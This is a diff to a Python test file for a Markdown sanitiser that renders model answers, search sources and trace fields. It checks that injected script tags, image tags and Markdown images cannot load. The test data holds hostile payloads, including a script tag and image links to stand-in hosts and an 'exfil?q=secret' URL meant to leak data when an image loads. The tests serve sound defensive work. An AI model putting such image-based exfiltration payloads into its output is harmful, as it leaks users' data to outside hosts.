@@ -25,8 +25,9 @@ def test_model_text_cannot_inject_html_or_images():
         'Hi <script>alert(1)</script> <img src="https://evil.test/x.png"> ![x](https://e.t/y.png)'
     )
     out = safe_markdown(text)
-    assert "<script>" not in out and "&lt;script&gt;" in out
-    assert "evil.test" not in out and "e.t/y.png" not in out
+    assert "<script>" not in out and "&lt;script>" in out, "HTML is shown as text"
+    assert "<img" not in out and "![" not in out, "no image in any form"
+    assert 'href="https://e.t/y.png" target="_blank" rel="noopener noreferrer"' in out
     assert safe_markdown("use `<b>` here") == "use `<b>` here", "code is left as code"
 
 
@@ -102,3 +103,38 @@ def test_the_prompt_fold_out_shows_every_message_and_its_tokens():
     out = prompt_markdown(data)
     assert "1,234 prompt tokens" in out and "900 of them sources (budget 1,000)" in out
     assert "Sources ````x```` and question" in out and "`````text" in out
+
+
+EXFIL = "http://127.0.0.1:9/exfil?q=secret"
+
+
+def _no_image_or_tag(out: str) -> None:
+    import re
+
+    out = re.sub(r"`[^`\n]*`", "", out)  # code spans show their text as written
+    assert "<img" not in out.lower()
+    assert "![" not in out and "!\\[" not in out, "no Markdown image"
+    for tag in re.findall(r"<([A-Za-z][^>]*)>", out):
+        assert tag.split()[0] in {"a", "details", "summary", "span"}, f"unexpected <{tag}>"
+
+
+def test_page_derived_fields_on_the_page_are_inert():
+    hostile = f"![x]({EXFIL}) <img src={EXFIL}>"
+    source = Source(1, hostile, f"https://e.example/x)![y]({EXFIL})", site=hostile)
+    listed = sources_markdown([source])
+    _no_image_or_tag(listed)
+    assert "%29!%5By%5D%28" in listed, "the address cannot close its link early"
+    answered = answer_markdown(f"{hostile} [1]", [source])
+    _no_image_or_tag(answered)
+    trace = {
+        "query": hostile,
+        "provider": "duckduckgo",
+        "hits": 1,
+        "notices": [f"DuckDuckGo redirected the search (HTTP 302 to ![x]({EXFIL}))"],
+        "pages": [
+            {"url": f"https://e.example/{hostile}", "status": "error", "reason": hostile, "ms": 1}
+        ],
+    }
+    shown = trace_markdown(trace, {"search on": f"GenerationError: \n\n{hostile}"})
+    _no_image_or_tag(shown)
+    assert "&#91;x&#93;" in shown, "the notice's brackets are shown, not read"
